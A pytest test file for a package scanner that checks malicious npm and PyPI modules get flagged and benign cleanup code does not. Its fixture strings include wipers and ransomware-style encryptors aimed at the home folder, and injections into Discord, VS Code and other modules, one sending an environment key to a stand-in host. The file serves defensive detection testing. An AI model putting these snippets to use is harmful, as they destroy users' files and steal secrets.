"""Files of a person that are ruined, and other programs whose code is rewritten. All of it is inert text."""

from __future__ import annotations

from typing import Any

import pytest

from adapters.sigil.local.material import Ecosystem
from adapters.sigil.models import PhaseName

_RUIN = {
    "overwrites what a walk from home finds": (
        "const fs = require('fs'), os = require('os'), path = require('path');\nfunction go(folder) {\n"
        "  for (const each of fs.readdirSync(folder, { withFileTypes: true })) {\n"
        "    const full = path.join(folder, each.name);\n    if (each.isDirectory()) go(full);\n"
        "    else fs.writeFileSync(full, 'gone');\n  }\n}\ngo(os.homedir());"
    ),
    "locks what a generator finds": (
        "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\n"
        "function* all(folder) { for (const n of fs.readdirSync(folder)) yield path.join(folder, n); }\n"
        "const key = crypto.randomBytes(32);\nfor (const file of all(path.join(os.homedir(), 'Documents'))) {\n"
        "  const cipher = crypto.createCipheriv('aes-256-ctr', key, Buffer.alloc(16));\n"
        "  fs.writeFileSync(file, Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));\n}"
    ),
    "removes one by one with promises": (
        "import { readdir, unlink } from 'node:fs/promises';\nimport path from 'node:path';\n"
        "const names = await readdir('../../');\n"
        "await Promise.all(names.map((name) => unlink(path.join('../../', name))));"
    ),
    "overwrites the working folder": (
        "const fs = require('fs'), path = require('path');\n"
        "const go = (folder) => fs.readdirSync(folder).forEach((n) => {\n"
        "  const full = path.join(folder, n);\n"
        "  fs.statSync(full).isDirectory() ? go(full) : fs.writeFileSync(full, 'x');\n"
        "});\ngo(process.cwd());"
    ),
    "overwrites after asking where it is": (
        "const fs = require('fs');\nfetch('https://geo.invalid/').then((r) => r.json()).then((where) => {\n"
        "  if (where.country === 'XX') fs.readdir('/srv/files', (e, names) => names.forEach((name) =>\n"
        "    fs.writeFile('/srv/files/' + name, 'x', () => {})));\n});"
    ),
}
_RUIN_IN_PYTHON = {
    "overwrites with rglob": (
        "from pathlib import Path\nfor each in Path.home().rglob('*'):\n    if each.is_file():\n"
        "        each.write_bytes(b'gone')\n"
    ),
    "locks with walk": (
        "import os\nfrom cryptography.fernet import Fernet\nkey = Fernet.generate_key()\n"
        "def lock(root):\n    for folder, _, names in os.walk(root):\n        for name in names:\n"
        "            full = os.path.join(folder, name)\n            data = open(full, 'rb').read()\n"
        "            with open(full, 'wb') as out:\n                out.write(Fernet(key).encrypt(data))\n"
        "lock(os.path.expanduser('~/Documents'))\n"
    ),
    "removes with walk": (
        "import os\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
        "        os.remove(os.path.join(folder, name))\n"
    ),
    "empties with scandir": (
        "import os\ndef go(folder):\n    for each in os.scandir(folder):\n        if each.is_dir():\n"
        "            go(each.path)\n        else:\n            open(each.path, 'wb').close()\n"
        "go(os.path.expanduser('~'))\n"
    ),
    "empties with glob": (
        "import glob, os\nfor n in glob.glob(os.path.expanduser('~/Desktop/*')):\n    open(n, 'w').close()\n"
    ),
}
_REWRITES = {
    "fetched code into a desktop application": (
        "const fs = require('fs'), path = require('path');\n"
        "const base = path.join(process.env.LOCALAPPDATA, 'Chatter');\n"
        "for (const name of fs.readdirSync(base)) {\n"
        "  const file = path.join(base, name, 'modules', 'discord_desktop_core', 'index.js');\n"
        "  fetch('https://code.invalid/a.js').then((r) => r.text()).then((code) => fs.writeFileSync(file, code));\n}"
    ),
    "code brought along into another module": (
        "const fs = require('fs');\nconst file = require.resolve('some-wallet');\n"
        "fs.appendFileSync(file, \";require('https').request({ host: 'k.invalid' }).end(process.env.KEY)\");"
    ),
    "into an editor's extensions": (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const dir = path.join(os.homedir(), '.vscode', 'extensions', 'vendor.tool-1.0.0');\n"
        "fs.copyFileSync('./payload.js', path.join(dir, 'extension.js'));"
    ),
}
_TWINS = {
    "cleans its output": (
        "const fs = require('fs'), path = require('path');\nfor (const n of fs.readdirSync('dist'))"
        " fs.unlinkSync(path.join('dist', n));"
    ),
    "keeps its cache small": (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const dir = path.join(os.homedir(), '.cache', 'tool');\n"
        "for (const n of fs.readdirSync(dir)) fs.rmSync(path.join(dir, n));"
    ),
    "copies templates": (
        "const fs = require('fs'), path = require('path');\n"
        "exports.make = (from, to) => { for (const n of fs.readdirSync(from))"
        " fs.writeFileSync(path.join(to, n), fs.readFileSync(path.join(from, n), 'utf8').replace(/NAME/g, to)); };"
    ),
    "formats what it is given": (
        "const fs = require('fs'), glob = require('fast-glob');\nexports.format = async (patterns) => {\n"
        "  for (const file of await glob(patterns)) fs.writeFileSync(file, fs.readFileSync(file, 'utf8').trim());\n};"
    ),
    "patches its own file in node_modules": (
        "const fs = require('fs');\nfs.writeFileSync('node_modules/sample/lib/build.js', \"require('fs')\");"
    ),
}
_TWINS_IN_PYTHON = {
    "removes compiled files": "from pathlib import Path\nfor each in Path('.').rglob('*.pyc'):\n    each.unlink()\n",
    "cleans a build": (
        "import os, shutil\ndef clean():\n    for name in os.listdir('build'):\n"
        "        shutil.rmtree(os.path.join('build', name))\n"
    ),
    "rotates its logs": (
        "import glob, os\nfor old in sorted(glob.glob('/var/log/tool/*.log'))[:-5]:\n    os.remove(old)\n"
    ),
}


@pytest.mark.parametrize("code", _RUIN.values(), ids=_RUIN)
def test_ruin(code: str, pack: Any, outcome: Any) -> None:
    """Whoever requires a module that ruins a person's files is warned."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.dangerous
    assert "files-ruined" in found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize("code", _RUIN_IN_PYTHON.values(), ids=_RUIN_IN_PYTHON)
def test_ruin_in_python(code: str, pack: Any, outcome: Any) -> None:
    """Whoever imports a module that ruins a person's files is warned."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert found.dangerous
    assert "files-ruined" in found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize("code", _REWRITES.values(), ids=_REWRITES)
def test_rewritten_programs(code: str, pack: Any, outcome: Any) -> None:
    """Whoever requires a module that rewrites another program's code is warned."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.dangerous
    assert {"code-injection", "foreign-code-rewritten"} & found.rules(PhaseName.CODE_PATTERNS)


def test_rewritten_module_in_python(pack: Any, outcome: Any) -> None:
    """Code that a Python package brings along into another package is found."""
    code = (
        "import os, site\ntarget = os.path.join(site.getsitepackages()[0], 'requests', 'api.py')\n"
        "with open(target, 'a') as out:\n    out.write('import os, subprocess\\nsubprocess.run(os.environ)')\n"
    )
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert "code-injection" in found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize("code", _TWINS.values(), ids=_TWINS)
def test_everyday_code(code: str, pack: Any, outcome: Any) -> None:
    """What cleans its own folders, copies, formats and patches itself is left alone."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.score < 10, found.rules(PhaseName.CODE_PATTERNS)


@pytest.mark.parametrize("code", _TWINS_IN_PYTHON.values(), ids=_TWINS_IN_PYTHON)
def test_everyday_python(code: str, pack: Any, outcome: Any) -> None:
    """What removes generated files is left alone."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert found.score < 10, found.rules(PhaseName.CODE_PATTERNS)
